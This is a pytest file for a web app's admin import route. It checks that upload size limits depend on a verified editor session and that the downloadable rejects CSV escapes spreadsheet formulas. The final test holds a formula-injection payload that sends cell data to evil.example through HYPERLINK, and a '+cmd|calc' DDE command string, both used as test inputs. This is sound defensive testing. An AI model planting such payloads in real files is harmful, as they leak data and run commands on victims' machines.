"""Uploads: the large limit only for a verified editor's session, checked before any of the body
is read; the rejects file offered for download is formula-safe."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from typing import Any

import pytest
from fastapi.testclient import TestClient

from nurture.app import NurtureApp
from storage.models import ImportJob
from tests.admin.conftest import EDITOR, VIEWER, sign_in
from web.admin.session import COOKIE
from web.app import create_app

BOUNDARY = "nurture-test-boundary"


def _multipart(source: str, body: bytes) -> bytes:
    return (
        (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="source"\r\n\r\n{source}\r\n'
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n'
            f"Content-Type: text/csv\r\n\r\n"
        ).encode()
        + body
        + f"\r\n--{BOUNDARY}--\r\n".encode()
    )


def _post(app: Any, cookie: str | None, body: bytes, *, declare: bool = True) -> tuple[int, int]:
    """POST /admin/imports through ASGI; returns (status, how many times the body was read)."""
    reads = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal reads
        reads += 1
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    headers = [
        (b"host", b"127.0.0.1:8000"),
        (b"content-type", f"multipart/form-data; boundary={BOUNDARY}".encode()),
    ]
    if declare:
        headers.append((b"content-length", str(len(body)).encode()))
    if cookie is not None:
        headers.append((b"cookie", f"{COOKIE}={cookie}".encode()))
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
        "scheme": "http", "path": "/admin/imports", "raw_path": b"/admin/imports",
        "query_string": b"", "root_path": "", "headers": headers,
        "client": ("127.0.0.1", 50000), "server": ("127.0.0.1", 8000),
    }  # fmt: skip
    asyncio.run(app(scope, receive, send))
    return next(int(m["status"]) for m in sent if m["type"] == "http.response.start"), reads


@pytest.fixture
def big_uploads(staff_accounts: NurtureApp) -> NurtureApp:
    """A server allowing staff uploads of 4 MB (other requests: the 1 MB default)."""
    settings = staff_accounts.settings
    web = settings.web.model_copy(update={"max_upload_bytes": 4 * 1_048_576})
    staff_accounts.settings = settings.model_copy(update={"web": web})
    return staff_accounts


def _session_cookie(app: NurtureApp, email: str) -> str:
    with TestClient(create_app(app), follow_redirects=False) as client:
        assert sign_in(client, email).status_code == 303
        cookie = client.cookies.get(COOKIE)
    assert cookie
    return cookie


TOO_BIG_FOR_ANYONE_ELSE = _multipart("fair", b"email\n" + b"someone@example.com\n" * 80_000)


@pytest.mark.parametrize(
    "cookie",
    [
        "forged",
        "eyJ1IjoxLCJzIjoieCIsImYiOiJ4IiwiYyI6IngifQ.Zm9yZ2Vk.c2lnbmF0dXJl",  # looks signed
        "",
    ],
)
def test_a_forged_staff_cookie_keeps_the_small_limit_and_nothing_is_read(
    big_uploads: NurtureApp, cookie: str
) -> None:
    assert len(TOO_BIG_FOR_ANYONE_ELSE) > big_uploads.settings.web.max_body_bytes
    status, reads = _post(create_app(big_uploads), cookie, TOO_BIG_FOR_ANYONE_ELSE)
    assert (status, reads) == (413, 0)


def test_a_forged_cookie_without_a_declared_length_is_refused_unread(
    big_uploads: NurtureApp,
) -> None:
    status, reads = _post(create_app(big_uploads), "forged", TOO_BIG_FOR_ANYONE_ELSE, declare=False)
    assert status in (303, 401, 403, 413) and reads == 0
    with big_uploads.sessions() as session:
        assert session.query(ImportJob).count() == 0


def test_a_viewer_session_keeps_the_small_limit(big_uploads: NurtureApp) -> None:
    cookie = _session_cookie(big_uploads, VIEWER)
    assert _post(create_app(big_uploads), cookie, TOO_BIG_FOR_ANYONE_ELSE) == (413, 0)


def test_an_ended_session_keeps_the_small_limit(big_uploads: NurtureApp) -> None:
    with TestClient(create_app(big_uploads), follow_redirects=False) as client:
        assert sign_in(client, EDITOR).status_code == 303
        cookie = client.cookies.get(COOKIE)
        page = client.get("/admin/imports").text
        token = page.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
        assert client.post("/admin/logout", data={"csrf_token": token}).status_code == 303
    assert cookie
    assert _post(create_app(big_uploads), cookie, TOO_BIG_FOR_ANYONE_ELSE) == (413, 0)


def test_an_editor_session_gets_the_upload_limit(big_uploads: NurtureApp) -> None:
    """Past the middleware, the route answers (here 403: this raw post has no CSRF token)."""
    cookie = _session_cookie(big_uploads, EDITOR)
    status, reads = _post(create_app(big_uploads), cookie, TOO_BIG_FOR_ANYONE_ELSE)
    assert status == 403 and reads >= 1


@pytest.mark.parametrize("who", [None, VIEWER])
def test_the_upload_route_checks_the_session_and_role_before_reading_the_body(
    staff_accounts: NurtureApp, who: str | None
) -> None:
    """A small body, under every limit: still not read for an anonymous visitor or a viewer."""
    cookie = _session_cookie(staff_accounts, who) if who else None
    status, reads = _post(create_app(staff_accounts), cookie, _multipart("fair", b"email\n"))
    assert status in (303, 401, 403) and reads == 0


# -- the rejects file staff download -----------------------------------------------------------
ATTACK = '=HYPERLINK("https://evil.example/?"&A2,"Your results")'


def test_the_downloaded_rejects_file_is_formula_safe(editor: TestClient) -> None:
    page = editor.get("/admin/imports").text
    token = page.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
    text = f'first_name,last_name,email\n"{ATTACK.replace(chr(34), chr(34) * 2)}",+cmd|calc,bad\n'
    response = editor.post(
        "/admin/imports",
        data={"csrf_token": token, "source": "fair"},
        files={"file": ("fair.csv", text.encode(), "text/csv")},
    )
    assert response.status_code == 303
    job = response.headers["location"]
    for _ in range(200):
        if editor.get(f"{job}/progress.json").json()["status"] != "running":
            break
        time.sleep(0.05)
    download = editor.get(f"{job}/rejects.csv")
    assert download.status_code == 200
    header, row = list(csv.reader(io.StringIO(download.text)))
    assert header == ["line", "reason", "first_name", "last_name", "email"]
    assert row[2:] == ["'" + ATTACK, "'+cmd|calc", "bad"]
